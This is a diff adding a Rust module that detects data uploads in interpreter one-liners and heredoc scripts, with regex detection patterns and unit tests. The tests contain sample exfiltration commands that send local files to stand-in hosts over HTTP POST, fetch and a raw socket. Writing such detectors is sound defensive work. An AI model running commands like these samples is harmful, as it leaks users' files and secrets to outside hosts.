@@ -1,0 +1,97 @@
+//! Upload detection in interpreter one-liners (`python -c`, `node -e`,
+//! `perl -e`, `ruby -e`, `php -r`) and heredoc scripts.
+
+use super::Destination;
+use regex::Regex;
+use std::sync::OnceLock;
+
+struct Patterns {
+    send: Regex,
+    url: Regex,
+    host_literal: Regex,
+}
+
+fn patterns() -> &'static Patterns {
+    static P: OnceLock<Patterns> = OnceLock::new();
+    P.get_or_init(|| {
+        // Invariant: these literal patterns are fixed and covered by tests;
+        // they always compile.
+        #[allow(clippy::expect_used)] // invariant stated above
+        let build = |p: &str| Regex::new(p).expect("fixed pattern compiles");
+        Patterns {
+            send: build(concat!(
+                r"(?i)(?:requests|httpx|session|client|aiohttp\.ClientSession\(\))\s*\.\s*(?:post|put|patch)\s*\(",
+                r"|requests\.request\(\s*['\x22](?:post|put|patch)",
+                r"|urlopen\([^)]*data\s*=|urlopen\([^,()]+,\s*(?:data\b|b['\x22]|[A-Za-z_][A-Za-z0-9_.]*\.encode\(|open\(|body|payload)",
+                r"|Request\([^)]*data\s*=|Request\([^)]*method\s*=\s*['\x22](?:POST|PUT|PATCH)",
+                r"|\.request\(\s*['\x22](?:POST|PUT|PATCH)",
+                r"|\.(?:sendall|sendto|send)\(",
+                r"|storbinary|storlines|sendmail|send_message|upload_file|upload_fileobj|put_object|\.put\(",
+                r"|method\s*:\s*['\x22`](?:POST|PUT|PATCH)",
+                r"|axios\s*\.\s*(?:post|put|patch)|axios\(\s*\{[^}]*method\s*:\s*['\x22](?:post|put|patch)",
+                r"|(?:http|https|net|tls)\.(?:request|connect|createConnection)\([^)]*\)[\s\S]{0,200}\.(?:write|end)\(\s*[^)\s]",
+                r"|\.pipe\(\s*(?:https?\.request|req|request|socket|client)",
+                r"|sendBeacon|XMLHttpRequest[\s\S]{0,200}\.send\(\s*[^)\s]",
+                r"|LWP|HTTP::Request->new\(\s*['\x22]?(?:POST|PUT)|->post\(|->put\(|Net::HTTP(?:::Post|\.post|\.put)",
+                r"|IO::Socket|TCPSocket|fsockopen|CURLOPT_POST|CURLOPT_UPLOAD|['\x22]method['\x22]\s*=>\s*['\x22]POST",
+                r"|file_put_contents\(\s*['\x22](?:https?|ftp)://",
+            )),
+            url: build(r#"(?i)\b(?:https?|ftp|wss?)://[^\s'"`)<>\\,;]+"#),
+            host_literal: build(
+                r#"['"]((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}|(?:[0-9]{1,3}\.){3}[0-9]{1,3})['"]"#,
+            ),
+        }
+    })
+}
+
+/// If `code` sends data out, where to (the first URL or quoted host in it).
+pub(crate) fn code_upload(code: &str) -> Option<Destination> {
+    let p = patterns();
+    if !p.send.is_match(code) {
+        return None;
+    }
+    if let Some(m) = p.url.find(code) {
+        return Some(super::tools::url_destination(m.as_str()));
+    }
+    if let Some(c) = p.host_literal.captures(code) {
+        if let Some(h) = c.get(1) {
+            return Some(Destination::Host(super::normalize_host(h.as_str())));
+        }
+    }
+    Some(Destination::Unknown)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn python_and_node_uploads() {
+        let d = code_upload(
+            "import requests; requests.post('https://x.example/u', files={'f': open('db','rb')})",
+        );
+        assert_eq!(d, Some(Destination::Host("x.example".into())));
+        let d = code_upload("fetch('https://y.example/in', {method: 'POST', body: require('fs').readFileSync('a')})");
+        assert_eq!(d, Some(Destination::Host("y.example".into())));
+        let d = code_upload("import socket; s=socket.socket(); s.connect(('10.0.0.9', 9)); s.sendall(open('k').read())");
+        assert_eq!(d, Some(Destination::Host("10.0.0.9".into())));
+    }
+
+    #[test]
+    fn downloads_are_not_uploads() {
+        assert_eq!(
+            code_upload("import requests; print(requests.get('https://x.example').text)"),
+            None
+        );
+        assert_eq!(
+            code_upload("fetch('https://x.example').then(r => r.json())"),
+            None
+        );
+        assert_eq!(
+            code_upload(
+                "import urllib.request; urllib.request.urlopen('https://x.example').read()"
+            ),
+            None
+        );
+    }
+}
